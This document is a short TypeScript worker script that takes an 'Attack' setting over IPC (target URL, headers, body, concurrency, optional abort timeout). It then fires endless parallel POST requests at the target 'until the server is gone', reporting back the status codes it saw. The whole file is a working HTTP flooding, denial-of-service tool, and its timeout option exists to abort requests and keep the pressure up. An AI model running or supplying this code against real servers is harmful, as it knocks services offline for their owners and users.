import { once } from 'node:events';

export interface Attack {
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
  /** How many requests are under way at a time. */
  readonly count: number;
  /** Milliseconds after which a request is broken off and the next one begins; absent where answers are waited for. */
  readonly breakOff?: number | undefined;
}

const [attackOn]: Attack[] = await once(process, 'message');
if (attackOn === undefined) throw new Error('Nothing to attack.');
const { url, headers, body, count, breakOff } = attackOn;
const statuses = new Set<number>();

/** Sends the body again and again, until the server is gone. */
async function attack(): Promise<void> {
  for (;;) {
    const signal = breakOff === undefined ? null : AbortSignal.timeout(breakOff);
    try {
      const response = await fetch(url, { method: 'POST', headers, body, signal });
      await response.arrayBuffer();
      statuses.add(response.status);
    } catch {
      if (signal?.aborted !== true) return;
    }
  }
}

await Promise.all(Array.from({ length: count }, attack));
process.send?.([...statuses]);
process.disconnect();
